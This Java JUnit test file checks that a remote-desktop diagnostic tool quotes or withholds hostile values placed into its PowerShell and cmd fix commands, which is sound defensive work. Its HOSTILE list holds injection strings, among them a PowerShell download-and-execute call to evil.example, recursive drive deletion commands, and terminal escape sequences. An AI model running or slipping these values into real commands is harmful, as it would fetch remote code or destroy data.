package io.rdpdoctor.knowledge;

import static org.assertj.core.api.Assertions.assertThat;

import io.rdpdoctor.knowledge.CatalogueCommands.Template;
import io.rdpdoctor.knowledge.PowerShellTokens.Kind;
import io.rdpdoctor.knowledge.PowerShellTokens.Token;
import io.rdpdoctor.knowledge.ShellQuoting.Shell;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Every command template of the catalogue (each diagnosis's fix steps with their backup and undo,
 * its verification, each next-step question), filled with hostile values for each of its
 * placeholders in turn: the command is either withheld (the value shown apart), or
 * <ul>
 *   <li>in PowerShell, it tokenizes to the same tokens as the template filled with a benign value,
 *       the value inside exactly one string literal per place it goes;</li>
 *   <li>in cmd, the value stands only inside "..." and holds no character cmd acts on there;</li>
 *   <li>in a line for either shell, both hold;</li>
 *   <li>in another tool's command, it is a plain word.</li>
 * </ul>
 */
class CommandQuotingContractTest {

    /** Quotes of both shells and their typographic forms, separators, expansions, line breaks, terminal escapes, length. */
    static final List<String> HOSTILE = List.of(
            "x';iex(iwr('http://evil.example/p'));'0xC0000234",
            "a';\"&calc&\"0xC0000072",
            "x' -Path C:\\t; Remove-Item -Recurse -Force C:\\ #",
            "RDP\" & del /s /q C:\\* & rem \"'; Remove-Item -Recurse C:\\ -Force; #",
            "Default Domain Controllers' Policy",
            "a‘;calc;’b",
            "a’‛‚b'",
            "“;calc;”",
            "„x“",
            "$(calc)",
            "${env:ComputerName}",
            "`$(calc)`",
            "a`;calc",
            "a`",
            "x; calc",
            "x & calc",
            "x && calc",
            "x | calc",
            "x || calc",
            "%COMSPEC%",
            "a%PATH%b",
            "!x!",
            "^&calc",
            "a<b>c",
            "\"quoted\"",
            "'",
            "''",
            "\"",
            "#comment",
            "@(calc)",
            "{calc}",
            "}; calc; {",
            "(calc)",
            "-Filter *",
            "/delete",
            "–Force",
            "x\\",
            "two words",
            "Baseline\n\nNo cause found: the host is healthy.\n1  HEALTHY  [confirmed]  nothing to fix\r",
            "a\r\nb",
            "H1\u001b[2J\u001b]52;c;aWV4\u0007\u001b]8;;http://evil.example/\u0007click",
            "a\u202eb",
            "a\u0085b",
            "a\u007fb",
            "a\tb",
            "x".repeat(5000),
            "'".repeat(ShellQuoting.MAX_LENGTH));

    private static final List<Template> templates = CatalogueCommands.all();
    private static final Set<String> placeholders = new LinkedHashSet<>();
    private static final Map<String, String> benign = CatalogueCommands.ordinaryValues();

    @BeforeAll
    static void collect() {
        for (Template t : templates) placeholders.addAll(t.names());
    }

    @Test
    void theCatalogueHasCommandsWithPlaceholdersOfEveryShell() {
        assertThat(templates).hasSizeGreaterThan(100);
        assertThat(placeholders).contains("user", "gpo", "rule", "port", "host", "thumbprint");
        assertThat(templates.stream().filter(t -> !t.names().isEmpty()).map(Template::shell).distinct())
                .containsExactlyInAnyOrder(Shell.values());
    }

    @Test
    void everyTemplateFilledWithBenignValuesIsPrintedAndTokenizes() {
        List<String> problems = new ArrayList<>();
        for (Template t : templates) {
            CommandFiller.Filled f = CommandFiller.fill(t.shell(), t.text(), benign);
            if (f.isWithheld()) {
                problems.add(t.where() + " " + t.field() + ": withheld with benign values: " + f.withheld());
                continue;
            }
            if (t.shell() == Shell.POWERSHELL || t.shell() == Shell.BOTH) {
                try {
                    PowerShellTokens.tokenize(f.command());
                } catch (IllegalArgumentException e) {
                    problems.add(t.where() + " " + t.field() + ": " + e.getMessage() + ": " + f.command());
                }
            }
        }
        assertThat(problems).isEmpty();
    }

    @Test
    void everyTemplateFilledWithHostileValuesIsWithheldOrKeepsTheValueOneLiteral() {
        List<String> problems = new ArrayList<>();
        int fills = 0;
        int printed = 0;
        int withheld = 0;
        int slots = 0;
        for (Template t : templates) {
            slots += CommandFiller.slots(t.text()).size();
            for (String name : t.names()) {
                for (String hostile : HOSTILE) {
                    fills++;
                    Map<String, String> values = new HashMap<>(benign);
                    values.put(name, hostile);
                    CommandFiller.Filled f = CommandFiller.fill(t.shell(), t.text(), values);
                    String problem;
                    if (f.isWithheld()) {
                        withheld++;
                        problem = checkWithheld(t, name, hostile, f);
                    } else {
                        printed++;
                        problem = checkPrinted(t, name, hostile, f.command());
                    }
                    if (problem != null) {
                        problems.add(t.where() + " " + t.field() + " {" + name + "} = " + visible(hostile) + ": " + problem);
                    }
                }
            }
        }
        System.out.printf("quoting contract: %d command templates (%d with placeholders), %d placeholder slots, %d distinct placeholders, %d hostile values; "
                        + "%d fills: %d printed with the value quoted, %d withheld%n",
                templates.size(), templates.stream().filter(x -> !x.names().isEmpty()).count(), slots, placeholders.size(), HOSTILE.size(), fills, printed, withheld);
        assertThat(problems).as(problems.size() + " problems, the first ones").isEmpty();
        // A filler that withholds everything would pass the checks above: values it can quote must be printed.
        assertThat(printed).as("hostile values printed safely quoted").isGreaterThan(fills / 10);
    }

    private static String checkWithheld(Template t, String name, String hostile, CommandFiller.Filled f) {
        if (f.withheld().stream().noneMatch(r -> r.name().equals(name) && r.value().equals(hostile) && !r.problem().isBlank())) {
            return "withheld without naming the value: " + f.withheld();
        }
        Map<String, String> without = new HashMap<>(benign);
        without.remove(name);
        String expected = CommandFiller.fill(t.shell(), t.text(), without).command();
        if (!f.template().equals(expected) || !expected.contains("<" + name + ">")) {
            return "the withheld command is not the template with <" + name + "> in place of the value: " + f.template();
        }
        return null;
    }

    private static String checkPrinted(Template t, String name, String hostile, String command) {
        if (ShellQuoting.hasControl(command)) {
            return "a control character in the command";
        }
        return switch (t.shell()) {
            case POWERSHELL -> sameTokens(t, name, hostile, command);
            case CMD -> onlyInsideCmdQuotes(t, name, hostile, command);
            case BOTH -> {
                String ps = sameTokens(t, name, hostile, command);
                yield ps != null ? "as PowerShell: " + ps : onlyInsideCmdQuotes(t, name, hostile, command);
            }
            case ANY -> ShellQuoting.isPlainWord(hostile, Shell.ANY) ? null : "not a plain word, printed in another tool's command: " + command;
        };
    }

    /** PowerShell: the tokens of the benign fill, the value only in string literals where the benign value was. */
    private static String sameTokens(Template t, String name, String hostile, String command) {
        String marker = benign.get(name);
        Map<String, String> b = new HashMap<>(benign);
        List<Token> expected = PowerShellTokens.tokenize(CommandFiller.fill(t.shell(), t.text(), b).command());
        List<Token> actual;
        try {
            actual = PowerShellTokens.tokenize(command);
        } catch (IllegalArgumentException e) {
            return "does not tokenize: " + e.getMessage() + ": " + command;
        }
        if (expected.size() != actual.size()) {
            return "tokens differ: " + actual + " instead of " + expected;
        }
        int carrying = 0;
        for (int i = 0; i < expected.size(); i++) {
            Token e = expected.get(i);
            Token a = actual.get(i);
            if (e.kind() != Kind.COMMENT && e.value().contains(marker)) {
                carrying++;
                String want = e.value().replace(marker, hostile);
                boolean ok = a.value().equals(want) && (a.isLiteralString() || (a.kind() == e.kind() && a.kind() == Kind.WORD
                        && ShellQuoting.isPlainWord(hostile, Shell.POWERSHELL)));
                if (!ok) {
                    return "token " + i + " is " + a + ", expected one string literal " + visible(want) + ": " + command;
                }
            } else if (!e.equals(a) && !(e.kind() == Kind.COMMENT && a.kind() == Kind.COMMENT)) {
                return "token " + i + " is " + a + " instead of " + e + ": " + command;
            }
        }
        return carrying > 0 ? null : "the value is in no token: " + command;
    }

    /** cmd: each occurrence of the value inside "...", the value free of what cmd acts on, the rest as the template. */
    private static String onlyInsideCmdQuotes(Template t, String name, String hostile, String command) {
        for (char c : "\"%^&|<>!".toCharArray()) {
            if (hostile.indexOf(c) >= 0) return "the value holds " + c + " and was printed for cmd: " + command;
        }
        if (ShellQuoting.isPlainWord(hostile, Shell.CMD)) return null;
        int found = 0;
        for (int at = command.indexOf(hostile); at >= 0; at = command.indexOf(hostile, at + hostile.length())) {
            found++;
            long quotesBefore = command.substring(0, at).chars().filter(ch -> ch == '"').count();
            if (quotesBefore % 2 == 0 || at + hostile.length() >= command.length()) {
                return "the value is not inside \"...\": " + command;
            }
        }
        String marker = benign.get(name);
        String benignCommand = CommandFiller.fill(t.shell(), t.text(), benign).command();
        if (found != CommandFiller.slots(t.text()).stream().filter(s -> s.name().equals(name)).count()
                || !command.replace(hostile, marker).replace("\"", "").equals(benignCommand.replace("\"", ""))) {
            return "the command differs from the template beyond the value: " + command;
        }
        return null;
    }

    private static String visible(String s) {
        String v = s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + " characters)" : s;
        StringBuilder b = new StringBuilder();
        for (char c : v.toCharArray()) b.append(ShellQuoting.isControl(c) ? String.format("\\u%04x", (int) c) : String.valueOf(c));
        return b.toString();
    }
}
